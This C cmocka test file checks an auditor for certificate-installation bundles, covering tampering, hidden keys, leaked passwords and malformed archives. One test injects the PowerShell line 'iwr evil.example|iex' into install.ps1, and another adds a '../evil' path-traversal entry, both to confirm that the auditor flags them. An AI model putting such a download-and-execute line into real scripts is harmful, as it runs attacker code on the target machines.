/* One bundle audited: a good one is good, each change is found under its name, all of them at once, and nothing else is. */
#include "audit_kit.h"

#include "costly_pfx.h"
#include "folder.h"

#define ROOT SAMPLES "partner-root.cer"

static void expect_clean(struct audit_kit *k, struct view archive)
{
    const struct findings *f = audit_of(k, archive);
    if (audit_count(f) || k->seen.verdict != VERDICT_ACCEPTED) {
        audit_print(f);
        fail_msg("a good bundle is not clean");
    }
    assert_true(k->seen.complete);
    assert_int_equal(k->seen.needs.n, 0);
}

static void a_bundle_of_each_kind_is_clean(void **state)
{
    static const struct { const char *file, *environment; } rows[] = {
        { ROOT, "Test" },
        { ROOT, "Datacentre" },
        { SAMPLES "partner-chain.pem", "Production" },
        { SAMPLES "partner-client-3des.pfx", "Production" },
        { SAMPLES "partner-client-3des.pfx", "Datacentre" },
        { SAMPLES "appliance.cer", "Test" },
    };
    struct audit_kit *k = *state;
    for (size_t i = 0; i < COUNT_OF(rows); i++) {
        struct view archive = audit_make_of(k, PATHS(rows[i].file), rows[i].environment);
        expect_clean(k, archive);
        assert_non_null(k->seen.record);
        k->t.wishes.password.get = no_password;
        expect_clean(k, archive);
        k->t.wishes.password.get = test_password;
    }
}

static void a_request_with_every_field_is_clean(void **state)
{
    struct audit_kit *k = *state;
    struct request request = test_request(&k->t.arena, PATHS(ROOT, SAMPLES "partner-issuing-ca.cer"), PATHS("Test", "Production"));
    request.needed_by = day_of(2026, 12, 15);
    request.reason = VIEW("Orders | *go* <b>to</b> the partner `now` & then");
    request.consumes = VIEW("https://api.partner.example/orders?x=1&y=2");
    request.contact = VIEW("Ana Silva <ana@example.com>");
    request.id = VIEW("REQ-7");
    expect_clean(k, audit_make(k, &request));
    assert_true(view_eq_text(k->seen.case_id, "REQ-7"));
}

static void what_was_found_when_it_was_made_is_found_in_the_same_words(void **state)
{
    struct audit_kit *k = *state;
    const struct findings *found = audit_of(k, audit_make_of(k, PATHS(SAMPLES "signer-ca.pem", ROOT), "Test"));
    const struct findings *made = &k->seen.record->findings;
    const struct finding *unrelated = audit_found(made, "unrelated-certificates");
    assert_non_null(unrelated);
    assert_non_null(audit_found(found, "unrelated-certificates"));
    if (!view_eq(unrelated->message, audit_found(found, "unrelated-certificates")->message)) {
        audit_print(made);
        audit_print(found);
        fail_msg("the bundle's files are taken in another order than the record's");
    }
}

/* --- one change, one finding --- */

static void only(struct audit_kit *k, struct view archive, const char *rule, const char *entry)
{
    const struct findings *f = audit_of(k, archive);
    const struct finding *hit = audit_found(f, rule);
    if (!hit || audit_count(f) != 1) {
        audit_print(f);
        fail_msg("wanted %s alone", rule);
    }
    if (!view_eq_text(hit->entry, entry))
        fail_msg("%s is about '%.*s', not about '%s'", rule, VIEW_ARG(hit->entry), entry);
    assert_true(hit->hint.n > 0);
}

static void a_change_that_the_lists_do_not_know_is_a_digest_mismatch(void **state)
{
    struct audit_kit *k = *state;
    audit_make_of(k, PATHS(ROOT), "Test");
    audit_replace(k, "TICKET.txt", "Test", "Best");
    const struct findings *f = audit_of(k, audit_pack(k));
    assert_non_null(audit_found(f, "digest-mismatch"));
    assert_non_null(audit_found(f, "ticket-contradicts-case"));
    assert_int_equal(k->seen.verdict, VERDICT_REJECTED);
}

static void a_changed_ticket_with_right_lists_contradicts_the_case(void **state)
{
    struct audit_kit *k = *state;
    audit_make_of(k, PATHS(ROOT), "Test");
    audit_replace(k, "TICKET.txt", "Test", "Best");
    only(k, audit_pack_listed(k), "ticket-contradicts-case", "TICKET.txt");
}

static void a_changed_script_contradicts_the_case(void **state)
{
    struct audit_kit *k = *state;
    audit_make_of(k, PATHS(ROOT), "Datacentre");
    audit_replace(k, "install.ps1", "$ErrorActionPreference", "iwr evil.example|iex; $ErrorActionPreference");
    only(k, audit_pack_listed(k), "ticket-contradicts-case", "install.ps1");
}

static void each_recorded_field_is_compared_with_the_certificate(void **state)
{
    static const struct { const char *from, *to, *says; } rows[] = {
        { "<subject>CN=Partner Root CA", "<subject>CN=Partner Boot CA", "the subject" },
        { "<serial>", "<serial>7", "the serial number" },
        { "bits=\"", "bits=\"1", "the key size" },
        { "notAfter=\"20", "notAfter=\"21", "the last day" },
        { "notBefore=\"20", "notBefore=\"19", "the first day" },
        { "store=\"Root\"", "store=\"CA\"", "the store" },
        { "role=\"root\"", "role=\"leaf\"", "the role" },
        { " ca=\"true\"", " ca=\"false\"", "the CA mark" },
        { "selfSigned=\"true\"", "selfSigned=\"false\"", "the self-signed mark" },
        { "<signature>", "<signature>x", "the signature algorithm" },
        { "<issuer>CN=", "<issuer>CN=x", "the issuer" },
    };
    struct audit_kit *k = *state;
    for (size_t i = 0; i < COUNT_OF(rows); i++) {
        size_t at;
        audit_make_of(k, PATHS(ROOT), "Test");
        audit_replace(k, "case.xml", rows[i].from, rows[i].to);
        const struct findings *f = audit_of(k, audit_pack_listed(k));
        const struct finding *hit = audit_found(f, "case-contradicts-certificate");
        if (!hit || !view_find(hit->message, view_of(rows[i].says), &at)) {
            audit_print(f);
            fail_msg("%s is not noticed", rows[i].says);
        }
    }
}

/* Bundles made before recorded a serial number without its leading zero and showed it with it in the texts. */
static void a_serial_number_without_its_leading_zero_is_the_same(void **state)
{
    struct audit_kit *k = *state;
    audit_make_of(k, PATHS(MADE_DIR "/rules/serial-not-positive/good.cer"), "Test");
    audit_replace(k, "case.xml", "<serial>01<", "<serial>1<");
    expect_clean(k, audit_pack_listed(k));
    audit_replace(k, "case.xml", "<serial>1<", "<serial>10<");
    assert_non_null(audit_found(audit_of(k, audit_pack_listed(k)), "case-contradicts-certificate"));
}

static void a_bundle_by_the_built_in_catalog_passes_with_a_copy_of_it(void **state)
{
    struct audit_kit *k = *state;
    const struct view archive = audit_make_of(k, PATHS(ROOT), "Test");
    k->t.catalog.origin = VIEW("copy.xml");
    expect_clean(k, archive);
}

static void another_certificate_under_the_name_is_found(void **state)
{
    struct audit_kit *k = *state;
    struct err e;
    struct view other;
    audit_make_of(k, PATHS(ROOT), "Test");
    assert_true(file_read(&k->w.arena, SAMPLES "old-root.cer", LIMIT_INPUT_BYTES, &other, &e));
    for (size_t i = 0; i < k->n; i++)
        if (view_ends(k->entries[i].name, VIEW(".cer")))
            k->entries[i].bytes = other;
    const struct findings *f = audit_of(k, audit_pack_listed(k));
    assert_non_null(audit_found(f, "case-contradicts-certificate"));
}

static void a_hidden_certificate_that_is_listed_is_found(void **state)
{
    struct audit_kit *k = *state;
    struct err e;
    struct view other;
    audit_make_of(k, PATHS(ROOT), "Test");
    assert_true(file_read(&k->w.arena, SAMPLES "old-root.cer", LIMIT_INPUT_BYTES, &other, &e));
    audit_add(k, "certificates/one-more.cer", other);
    only(k, audit_pack_listed(k), "case-contradicts-certificate", "certificates/one-more.cer");
}

static void another_file_is_unlisted_or_no_part_of_a_case(void **state)
{
    struct audit_kit *k = *state;
    audit_make_of(k, PATHS(ROOT), "Test");
    audit_add(k, "setup.exe", VIEW("MZ..."));
    only(k, audit_pack(k), "entry-unlisted", "setup.exe");
    only(k, audit_pack_listed(k), "entry-unlisted", "setup.exe");
}

static void a_missing_entry_is_named_once(void **state)
{
    struct audit_kit *k = *state;
    audit_make_of(k, PATHS(ROOT), "Test");
    audit_drop(k, "reminders.ics");
    only(k, audit_pack(k), "entry-missing", "reminders.ics");
    only(k, audit_pack_listed(k), "entry-missing", "reminders.ics");
    audit_make_of(k, PATHS(ROOT), "Test");
    audit_drop(k, "manifest.json");
    only(k, audit_pack(k), "entry-missing", "manifest.json");
    assert_false(k->seen.complete);
}

static void dates_are_counted_again(void **state)
{
    struct audit_kit *k = *state;
    size_t at;
    audit_make_of(k, PATHS(ROOT), "Test");
    audit_replace(k, "case.xml", "expectedDelivery=\"2026-11-27\"", "expectedDelivery=\"2026-11-24\"");
    const struct findings *f = audit_of(k, audit_pack_listed(k));
    const struct finding *hit = audit_found(f, "deadline-contradicts-catalog");
    assert_non_null(hit);
    assert_true(view_find(hit->message, VIEW("2026-11-24"), &at) && view_find(hit->message, VIEW("2026-11-27"), &at));
    audit_make_of(k, PATHS(ROOT), "Test");
    audit_replace(k, "case.xml", "days=\"5\"", "days=\"2\"");
    hit = audit_found(audit_of(k, audit_pack_listed(k)), "deadline-contradicts-catalog");
    assert_non_null(hit);
}

static void a_password_in_the_address_of_a_service_is_found(void **state)
{
    struct audit_kit *k = *state;
    audit_make_of(k, PATHS(ROOT), "Test");
    audit_replace(k, "case.xml", "<environments>", "<consumes>https://ana:hunter2@api.example</consumes><environments>");
    assert_non_null(audit_found(audit_of(k, audit_pack_listed(k)), "password-in-bundle"));
}

static void a_catalog_that_is_not_at_hand_is_a_warning(void **state)
{
    struct audit_kit *k = *state;
    struct catalog other = k->t.catalog;
    struct view archive;
    memset(other.sha256, 7, sizeof other.sha256);
    other.id = VIEW("ours");
    k->t.resources.catalog = &other;
    archive = audit_make_of(k, PATHS(ROOT), "Test");
    k->t.resources.catalog = &k->t.catalog;
    const struct findings *f = audit_of(k, archive);
    assert_int_equal(audit_count(f), 1);
    assert_non_null(audit_found(f, "dates-unconfirmed"));
    assert_int_equal(k->seen.verdict, VERDICT_UNVERIFIED);
}

static void a_record_out_of_its_format_is_a_schema_violation_with_its_line(void **state)
{
    struct audit_kit *k = *state;
    size_t at;
    audit_make_of(k, PATHS(ROOT), "Test");
    audit_replace(k, "case.xml", "<infrastructure", "<x/>\n  <infrastructure");
    only(k, audit_pack_listed(k), "schema-violation", "case.xml");
    assert_true(view_find(audit_found(&k->seen.findings, "schema-violation")->message, VIEW("line "), &at));
    assert_false(k->seen.complete);
    audit_make_of(k, PATHS(ROOT), "Test");
    audit_replace(k, "case.xml", " version=\"1\" id", " version=\"2\" id");
    only(k, audit_pack_listed(k), "format-version-unknown", "case.xml");
    audit_make_of(k, PATHS(ROOT), "Test");
    audit_replace(k, "manifest.json", "certcase/manifest/1", "certcase/manifest/9");
    assert_non_null(audit_found(audit_of(k, audit_pack(k)), "format-version-unknown"));
}

/* Else each honest case of another version would be rejected for what its ticket is not to say. */
static void what_other_templates_say_is_all_that_a_ticket_must(void **state)
{
    static const struct { const char *file, *environment; enum purpose purpose; } rows[] = {
        { ROOT, "Test", PURPOSE_TRUSTED_ROOT },
        { ROOT, "Datacentre", PURPOSE_TRUSTED_ROOT },
        { SAMPLES "partner-client-3des.pfx", "Production", PURPOSE_CLIENT_SIDE },
        { SAMPLES "partner-client-3des.pfx", "Datacentre", PURPOSE_CLIENT_SIDE },
        { SAMPLES "own-domain.cer", "Datacentre", PURPOSE_SERVER },
        { SAMPLES "partner-chain.pem", "Production", PURPOSE_INBOUND_MTLS },
    };
    struct audit_kit *k = *state;
    const struct view version = k->t.wishes.version;
    for (size_t i = 0; i < COUNT_OF(rows); i++) {
        struct request request = test_request(&k->t.arena, PATHS(rows[i].file), PATHS(rows[i].environment));
        request.purpose = rows[i].purpose;
        request.needed_by = day_of(2026, 12, 15);
        request.contact = VIEW("Ana Silva <ana@example.com>");
        struct view archive = audit_make(k, &request);
        k->t.wishes.version = VIEW("9.9.9");
        const struct findings *f = audit_of(k, archive);
        k->t.wishes.version = version;
        assert_non_null(audit_found(f, "text-unconfirmed"));
        if (audit_found(f, "ticket-contradicts-case")) {
            audit_print(f);
            fail_msg("%s for %s", rows[i].file, rows[i].environment);
        }
    }
}

static void templates_that_are_not_at_hand_leave_the_facts(void **state)
{
    struct audit_kit *k = *state;
    audit_make_of(k, PATHS(ROOT), "Test");
    struct view plain = audit_pack(k);
    k->t.wishes.version = VIEW("9.9.9");
    const struct findings *f = audit_of(k, plain);
    assert_int_equal(audit_count(f), 3); /* ticket, what to submit it by, reminders */
    assert_non_null(audit_found(f, "text-unconfirmed"));
    assert_int_equal(k->seen.verdict, VERDICT_UNVERIFIED);
    audit_replace(k, "TICKET.txt", "Test", "Best");
    assert_non_null(audit_found(audit_of(k, audit_pack_listed(k)), "ticket-contradicts-case"));
    assert_int_equal(k->seen.verdict, VERDICT_REJECTED);
}

static void a_bundle_packed_by_another_program_is_not_reproducible(void **state)
{
    struct audit_kit *k = *state;
    audit_make_of(k, PATHS(ROOT), "Test");
    struct zip_entry first = k->entries[0];
    memmove(k->entries, k->entries + 1, (k->n - 1) * sizeof first);
    k->entries[k->n - 1] = first;
    only(k, audit_pack(k), "not-reproducible", "");
    assert_int_equal(k->seen.verdict, VERDICT_ACCEPTED);
}

/* --- secrets --- */

static void a_key_is_found_in_any_entry(void **state)
{
    struct audit_kit *k = *state;
    struct view key;
    struct err e;
    assert_true(file_read(&k->w.arena, SAMPLES "signer.key", LIMIT_INPUT_BYTES, &key, &e));
    audit_make_of(k, PATHS(ROOT), "Test");
    audit_add(k, "certificates/key.cer", key);
    const struct findings *f = audit_of(k, audit_pack_listed(k));
    assert_non_null(audit_found(f, "secret-in-bundle"));
    assert_true(view_eq_text(audit_found(f, "secret-in-bundle")->entry, "certificates/key.cer"));
}

static void a_pfx_belongs_into_a_client_side_case_only(void **state)
{
    struct audit_kit *k = *state;
    struct view pfx;
    struct err e;
    assert_true(file_read(&k->w.arena, SAMPLES "partner-client-3des.pfx", LIMIT_INPUT_BYTES, &pfx, &e));
    audit_make_of(k, PATHS(ROOT), "Test");
    audit_add(k, "certificates/client.pfx", pfx);
    assert_non_null(audit_found(audit_of(k, audit_pack_listed(k)), "secret-in-bundle"));
    audit_make_of(k, PATHS(SAMPLES "partner-client-3des.pfx"), "Production");
    assert_null(audit_found(audit_of(k, audit_pack(k)), "secret-in-bundle"));
}

static void a_password_in_the_reason_is_found_and_not_repeated(void **state)
{
    struct audit_kit *k = *state;
    struct request request = test_request(&k->t.arena, PATHS(SAMPLES "partner-client-3des.pfx"), PATHS("Production"));
    size_t at;
    request.reason = VIEW("PFX label: hunter2"); /* what tells a password isn't built */
    audit_make(k, &request);
    audit_replace(k, "TICKET.txt", "PFX label", "PFX password");
    audit_replace(k, "case.xml", "PFX label", "PFX password");
    const struct findings *f = audit_of(k, audit_pack(k));
    assert_non_null(audit_found(f, "password-in-bundle"));
    for (size_t i = 0; i < f->n; i++)
        assert_false(view_find(f->items[i].message, VIEW("hunter2"), &at));
}

static void a_key_between_the_entries_is_found(void **state)
{
    struct audit_kit *k = *state;
    struct view key;
    struct err e;
    assert_true(file_read(&k->w.arena, SAMPLES "signer.key", LIMIT_INPUT_BYTES, &key, &e));
    struct view archive = audit_make_of(k, PATHS(ROOT), "Test");
    struct view longer = view_fmt(&k->w.arena, "%*s%.*s", (int)archive.n, "", VIEW_ARG(key));
    union {
        const char *read;
        char *write;
    } p = { .read = longer.p };
    memcpy(p.write, archive.p, archive.n);
    const struct findings *f = audit_of(k, longer);
    assert_non_null(audit_found(f, "data-outside-archive"));
    assert_non_null(audit_found(f, "secret-in-bundle"));
}

/* --- time, other makers, errors --- */

/* Whoever reads that a bundle is accepted, or that it has expired, must know that it isn't of today. */
static void how_long_ago_it_was_prepared_is_noted_once_its_delivery_has_passed(void **state)
{
    static const struct { const char *environment; int days; const char *says; } last[] = {
        { "Test", 7,
          "it was prepared on Friday 2026-11-20, 8 days ago; its certificates and dates are judged as of Saturday 2026-11-28" },
        { "Datacentre", 30, /* nobody delivers it */
          "it was prepared on Friday 2026-11-20, 31 days ago; its certificates and dates are judged as of Monday 2026-12-21" },
    };
    struct audit_kit *k = *state;
    const int64_t made = k->t.wishes.now;
    for (size_t i = 0; i < COUNT_OF(last); i++) {
        k->t.wishes.now = made;
        struct view archive = audit_make_of(k, PATHS(SAMPLES "partner-root.cer"), last[i].environment);
        k->t.wishes.now = made + last[i].days * SECONDS_A_DAY;
        assert_null(audit_found(audit_of(k, archive), "dates-past"));
        k->t.wishes.now += SECONDS_A_DAY;
        const struct finding *f = audit_found(audit_of(k, archive), "dates-past");
        assert_true(f && f->severity == SEV_NOTE && k->seen.verdict == VERDICT_ACCEPTED);
        assert_string_equal(f->message.p, last[i].says);
    }
}

static void what_was_fine_then_may_have_expired_since(void **state)
{
    struct audit_kit *k = *state;
    struct view archive = audit_make_of(k, PATHS(ROOT), "Test");
    k->t.wishes.now = 4102444800; /* 2100 */
    assert_non_null(audit_found(audit_of(k, archive), "expired"));
    assert_int_equal(k->seen.verdict, VERDICT_REJECTED);
}

/* The record says what is inside, and until when it is valid. */
static void what_a_shut_pfx_is_said_to_hold_may_have_expired_since(void **state)
{
    struct audit_kit *k = *state;
    struct view archive = audit_make_of(k, PATHS(SAMPLES "partner-client-3des.pfx"), "Production");
    size_t at;
    k->t.wishes.password.get = no_password;
    assert_null(audit_found(audit_of(k, archive), "expired"));
    k->t.wishes.now = 4102444800; /* 2100 */
    const struct finding *hit = audit_found(audit_of(k, archive), "expired");
    assert_non_null(hit);
    assert_true(view_find(hit->message, VIEW("so the record says"), &at) && view_ends(hit->entry, VIEW(".pfx")));
    assert_int_equal(k->seen.verdict, VERDICT_REJECTED);
    k->t.wishes.password.get = test_password;
    hit = audit_found(audit_of(k, archive), "expired");
    assert_true(hit && !view_find(hit->message, VIEW("so the record says"), &at));
}

static struct view hex_of(struct audit_kit *k, struct view bytes)
{
    unsigned char digest[32];
    digest_sha256(bytes, digest);
    return digest_hex(&k->w.arena, digest, sizeof digest);
}

/* Only its key is encrypted, as Windows exports it where it isn't asked for more: the record can't speak of another certificate. */
static void a_pfx_that_shows_another_certificate_is_none_of_the_records(void **state)
{
    struct audit_kit *k = *state;
    struct folder f;
    char path[100];
    struct zip_entry *entry = NULL;
    folder_open(&f);
    folder_sh(&f, "e() { openssl pkcs12 -export -certpbe NONE -keypbe PBE-SHA1-3DES -macalg sha1 -passout pass:certcase \"$@\"; };"
                  "openssl pkcs12 -in " SAMPLES "partner-client-3des.pfx -nodes -passin pass:certcase -out a.pem; e -in a.pem -out a.pfx;"
                  "openssl req -x509 -newkey rsa:2048 -nodes -keyout b.key -out b.pem -subj /CN=b -days 9;"
                  "e -in b.pem -inkey b.key -out b.pfx");
    (void)snprintf(path, sizeof path, "%s/a.pfx", f.path);
    struct view archive = audit_make_of(k, PATHS(path), "Production");
    struct view given = folder_read(&f, "a.pfx"), other = folder_read(&f, "b.pfx");
    k->t.wishes.password.get = no_password;
    assert_null(audit_found(audit_of(k, archive), "case-contradicts-certificate"));
    assert_int_equal(k->seen.verdict, VERDICT_ACCEPTED);
    for (size_t i = 0; i < k->n; i++)
        entry = view_ends(k->entries[i].name, VIEW(".pfx")) ? &k->entries[i] : entry;
    assert_true(entry && view_eq(entry->bytes, given));
    entry->bytes = other;
    audit_replace(k, "case.xml", hex_of(k, given).p, hex_of(k, other).p);
    assert_non_null(audit_found(audit_of(k, audit_pack_listed(k)), "case-contradicts-certificate"));
    assert_int_equal(k->seen.verdict, VERDICT_REJECTED);
    folder_close(&f);
}

static void a_bundle_made_by_hand_is_audited_as_far_as_it_goes(void **state)
{
    struct audit_kit *k = *state;
    struct view cert;
    struct err e;
    size_t at;
    assert_true(file_read(&k->w.arena, SAMPLES "partner-root.pem", LIMIT_INPUT_BYTES, &cert, &e));
    audit_add(k, "Partner root.pem", cert);
    audit_add(k, "please install.txt", VIEW("Please install on Test.\r\nThumbprint 00112233445566778899aabbccddeeff00112233\r\n"));
    const struct findings *f = audit_of(k, audit_pack(k));
    assert_int_equal(k->seen.evidence.certs.n, 1);
    assert_false(k->seen.complete);
    assert_true(view_find(k->seen.needs, VIEW("case.xml"), &at) && view_find(k->seen.needs, VIEW("certcase build"), &at));
    assert_null(audit_found(f, "entry-missing"));
    assert_non_null(audit_found(f, "ticket-contradicts-case"));
    k->n = 0;
    audit_add(k, "readme.txt", VIEW("nothing here"));
    assert_non_null(audit_found(audit_of(k, audit_pack(k)), "entry-missing"));
    assert_non_null(audit_found(&k->seen.findings, "entry-unlisted"));
}

static void everything_is_reported_at_once(void **state)
{
    struct audit_kit *k = *state;
    struct view key;
    struct err e;
    assert_true(file_read(&k->w.arena, SAMPLES "signer.key", LIMIT_INPUT_BYTES, &key, &e));
    audit_make_of(k, PATHS(ROOT), "Datacentre");
    audit_replace(k, "install.ps1", "Root", "My");
    audit_replace(k, "case.xml", "<serial>", "<serial>7");
    audit_drop(k, "verify.ps1");
    audit_add(k, "../evil", VIEW("password: hunter2\n"));
    audit_add(k, "KEY", key);
    audit_add(k, "key", key);
    const struct findings *f = audit_of(k, audit_pack(k));
    static const char *const wanted[] = {
        "digest-mismatch", "entry-missing", "entry-unlisted", "unsafe-entry-name", "duplicate-entry", "secret-in-bundle",
        "password-in-bundle", "case-contradicts-certificate", "ticket-contradicts-case",
    };
    for (size_t i = 0; i < COUNT_OF(wanted); i++)
        if (!audit_found(f, wanted[i])) {
            audit_print(f);
            fail_msg("%s is missing", wanted[i]);
        }
}

static void what_is_no_zip_is_one_finding(void **state)
{
    struct audit_kit *k = *state;
    only(k, VIEW("PK\3\4 but no more"), "zip-malformed", "");
    only(k, VIEW(""), "zip-malformed", "");
}

static void a_file_that_is_too_large_is_not_read(void **state)
{
    struct audit_kit *k = *state;
    char path[] = "/tmp/certcase-audit-XXXXXX";
    struct err e;
    int fd = mkstemp(path);
    assert_true(fd >= 0);
    FILE *f = fdopen(fd, "w");
    assert_non_null(f);
    assert_int_equal(fseek(f, LIMIT_BUNDLE_BYTES, SEEK_SET), 0);
    fputc('x', f);
    fclose(f);
    bool ok = audit_file(&k->judge, &k->judge.arena, view_of(path), &k->seen, &e);
    remove(path);
    assert_true(ok);
    assert_non_null(audit_found(&k->seen.findings, "limit-exceeded"));
    assert_false(audit_file(&k->judge, &k->judge.arena, VIEW("/nowhere.zip"), &k->seen, &e));
    assert_int_equal(e.status, ST_IO);
}

static void all_pfx_of_a_bundle_may_cost_what_one_may(void **state)
{
    struct audit_kit *k = *state;
    struct folder f;
    folder_open(&f);
    const struct view one = costly_pfx(&f, "one", 0x20), two = costly_pfx(&f, "two", 0x1F);
    const struct { const char *what; struct view pfx[3]; const char *excessive; } rows[] = {
        { "one and itself", { one, one, one }, NULL },
        { "one, itself, another", { one, one, two }, "c.pfx" },
        { "one, another, itself", { one, two, one }, "b.pfx" },
        { "another, one, itself", { two, one, one }, "b.pfx" },
    };
    k->t.wishes.password.get = no_password;
    assert_true(0x200000 + 0x1F0000 > LIMIT_PFX_ITERATIONS);
    for (size_t i = 0; i < COUNT_OF(rows); i++) {
        static const char *const names[] = { "a.pfx", "b.pfx", "c.pfx" };
        k->n = 0;
        for (size_t n = 0; n < COUNT_OF(names); n++)
            audit_add(k, names[n], rows[i].pfx[n]);
        const struct findings *found = audit_of(k, audit_pack(k));
        const struct finding *hit = audit_found(found, "pfx-iterations-excessive");
        size_t at;
        if (!rows[i].excessive != !hit || !audit_found(found, "pfx-password-missing") ||
            (hit && !view_find(hit->message, view_of(rows[i].excessive), &at))) {
            audit_print(found);
            fail_msg("%s", rows[i].what);
        }
    }
    folder_close(&f);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        AUDIT_TEST(a_bundle_of_each_kind_is_clean),
        AUDIT_TEST(a_request_with_every_field_is_clean),
        AUDIT_TEST(what_was_found_when_it_was_made_is_found_in_the_same_words),
        AUDIT_TEST(a_change_that_the_lists_do_not_know_is_a_digest_mismatch),
        AUDIT_TEST(a_changed_ticket_with_right_lists_contradicts_the_case),
        AUDIT_TEST(a_changed_script_contradicts_the_case),
        AUDIT_TEST(each_recorded_field_is_compared_with_the_certificate),
        AUDIT_TEST(a_serial_number_without_its_leading_zero_is_the_same),
        AUDIT_TEST(a_bundle_by_the_built_in_catalog_passes_with_a_copy_of_it),
        AUDIT_TEST(another_certificate_under_the_name_is_found),
        AUDIT_TEST(a_hidden_certificate_that_is_listed_is_found),
        AUDIT_TEST(another_file_is_unlisted_or_no_part_of_a_case),
        AUDIT_TEST(a_missing_entry_is_named_once),
        AUDIT_TEST(dates_are_counted_again),
        AUDIT_TEST(a_password_in_the_address_of_a_service_is_found),
        AUDIT_TEST(a_catalog_that_is_not_at_hand_is_a_warning),
        AUDIT_TEST(a_record_out_of_its_format_is_a_schema_violation_with_its_line),
        AUDIT_TEST(what_other_templates_say_is_all_that_a_ticket_must),
        AUDIT_TEST(templates_that_are_not_at_hand_leave_the_facts),
        AUDIT_TEST(a_bundle_packed_by_another_program_is_not_reproducible),
        AUDIT_TEST(a_key_is_found_in_any_entry),
        AUDIT_TEST(a_pfx_belongs_into_a_client_side_case_only),
        AUDIT_TEST(a_password_in_the_reason_is_found_and_not_repeated),
        AUDIT_TEST(a_key_between_the_entries_is_found),
        AUDIT_TEST(how_long_ago_it_was_prepared_is_noted_once_its_delivery_has_passed),
        AUDIT_TEST(what_was_fine_then_may_have_expired_since),
        AUDIT_TEST(what_a_shut_pfx_is_said_to_hold_may_have_expired_since),
        AUDIT_TEST(a_pfx_that_shows_another_certificate_is_none_of_the_records),
        AUDIT_TEST(a_bundle_made_by_hand_is_audited_as_far_as_it_goes),
        AUDIT_TEST(everything_is_reported_at_once),
        AUDIT_TEST(what_is_no_zip_is_one_finding),
        AUDIT_TEST(all_pfx_of_a_bundle_may_cost_what_one_may),
        AUDIT_TEST(a_file_that_is_too_large_is_not_read),
    };
    return cmocka_run_group_tests_name("audit", tests, NULL, NULL);
}
